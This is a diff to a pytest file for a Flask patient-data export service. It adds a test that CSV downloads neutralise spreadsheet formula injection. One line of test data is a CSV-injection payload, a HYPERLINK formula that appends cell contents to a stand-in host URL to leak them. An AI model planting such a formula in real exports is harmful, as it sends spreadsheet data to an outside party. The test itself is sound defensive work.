@@ -3,22 +3,27 @@ them (HTML or CSV) identifies a patient."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import pytest
 from flask.testing import FlaskClient
+from sqlalchemy import select
 
 from fit_platform.db import Database
 from fit_platform.db.models import (
     Episode,
     Patient,
     PatientGoal,
+    Programme,
     Response,
     ResponseComment,
     ServiceFeedback,
     SessionTopic,
     SharedDecision,
     Signal,
+    Unit,
 )
 from fit_platform.domain.codes import CommentSource, Role
 from tests.support.export_data import make_known_dataset
@@ -96,6 +101,29 @@ def test_the_csv_download_has_the_figures(client: FlaskClient) -> None:
     comma = client.get(f"/export/aggregates.csv?{JUNE}&separator=comma").get_data(as_text=True)
     assert comma.startswith("unit_code,unit_name,programme_code,programme_name,period,")
     assert ",p,Programme p,2026-Q2,8,16,8,0.5," in comma
+
+
+def test_a_unit_or_programme_named_like_a_formula_is_written_as_text_in_the_csv(
+    client: FlaskClient,
+) -> None:
+    """A spreadsheet runs a cell starting with = + - @ as a formula (CSV injection): the
+    names are written with a leading apostrophe, in both separators; numbers stay numbers."""
+    data = make_known_dataset(_db(client))
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")'
+    with _db(client).transaction() as session:
+        session.get_one(Unit, data.unit.id).name = formula
+        programme = session.scalars(select(Programme).where(Programme.code == "p")).one()
+        programme.name = "@SUM(1+1)"
+    _service_developer(client)
+    for separator, delimiter in (("semicolon", ";"), ("comma", ",")):
+        body = client.get(f"/export/aggregates.csv?{JUNE}&separator={separator}")
+        rows = list(csv.reader(io.StringIO(body.get_data(as_text=True)), delimiter=delimiter))
+        cells = {cell for row in rows[1:] for cell in row}
+        assert "'" + formula in cells
+        assert "'@SUM(1+1)" in cells
+        assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
+        programme_p = next(row for row in rows if row[3] == "'@SUM(1+1)")
+        assert programme_p[5] == "8"  # patients invited: a number, written as it was
 
 
 def test_the_json_download_has_the_figures_and_the_codebook_version(client: FlaskClient) -> None:
